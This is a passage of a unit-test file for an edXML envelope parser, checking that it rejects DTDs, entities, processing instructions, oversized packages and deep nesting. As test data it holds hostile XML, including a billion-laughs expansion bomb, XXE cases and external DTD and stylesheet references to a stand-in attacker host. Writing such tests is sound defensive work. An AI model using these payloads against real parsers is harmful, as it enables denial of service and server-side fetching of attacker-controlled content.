 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<edXML><edXMLEnvelope><edXMLHeader><MessageHeader><Subject>&lol9;</Subject></MessageHeader></edXMLHeader></edXMLEnvelope></edXML>`;

  it.each([
    ['an external entity (XXE)', external, 'DOCTYPE'],
    ['the billion-laughs expansion', billionLaughs, 'DOCTYPE'],
    ['an external DTD', '<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd"><edXML/>', 'DOCTYPE'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><edXML/>', 'DOCTYPE'],
    ['a lower-case doctype', '<!doctype edXML><edXML/>', 'DOCTYPE'],
    ['an entity declaration outside a doctype', '<edXML><!ENTITY a "b"></edXML>', 'ENTITY'],
  ])('refuses %s with EDXML_DTD_FORBIDDEN', (_case, xml, construct) => {
    const result = parseEdxmlEnvelope(xml);

    expect(!result.ok && result.error.code).toBe('EDXML_DTD_FORBIDDEN');
    expect(!result.ok && result.error.details).toEqual({ construct });
  });

  it('refuses a DTD before the parser sees the document, even when the rest is broken', () => {
    // A parser would report the unclosed elements; the DTD screen answers first.
    const result = parseEdxmlEnvelope(`${billionLaughs.slice(0, billionLaughs.indexOf('<edXML>'))}<edXML><Subject>&lol9;`);

    expect(!result.ok && result.error.code).toBe('EDXML_DTD_FORBIDDEN');
    expect(!result.ok && result.error.messageVi).toBe(
      'Gói edXML có khai báo DOCTYPE; vì lý do an toàn, hệ thống không nhận DTD và thực thể (entity)',
    );
  });

  it('refuses a processing instruction but accepts the XML declaration', () => {
    const stylesheet = fixture.replace('?>\n', '?>\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\n');

    expect(parseEdxmlEnvelope(fixture).ok).toBe(true);
    const result = parseEdxmlEnvelope(stylesheet);
    expect(!result.ok && result.error.code).toBe('EDXML_PROCESSING_INSTRUCTION_FORBIDDEN');
  });

  it('refuses a package over the size limit', () => {
    const result = parseEdxmlEnvelope(fixture, { maxBytes: 4096 });

    expect(!result.ok && result.error.code).toBe('EDXML_TOO_LARGE');
    expect(!result.ok && result.error.messageVi).toBe('Gói edXML dài hơn giới hạn 4096 byte');
  });

  it('refuses nesting deeper than the limit', () => {
    const deep = `<edXML>${'<a>'.repeat(40)}${'</a>'.repeat(40)}</edXML>`;

    const result = parseEdxmlEnvelope(deep);

    expect(!result.ok && result.error.code).toBe('EDXML_TOO_DEEP');
  });

  it('refuses an undeclared entity instead of passing it through', () => {
    const result = parseEdxmlEnvelope(base.replace('V/v thử', 'V/v &nbsp;thử'));

    expect(!result.ok && result.error.code).toBe('EDXML_MALFORMED');
    expect(!result.ok && result.error.details['reason']).toBe('entity &nbsp; is not declared');
  });

  it('refuses a malformed package', () => {
    const result = parseEdxmlEnvelope(base.replace('</Subject>', '</Subjet>'));

    expect(!result.ok && result.error.code).toBe('EDXML_MALFORMED');
  });
});
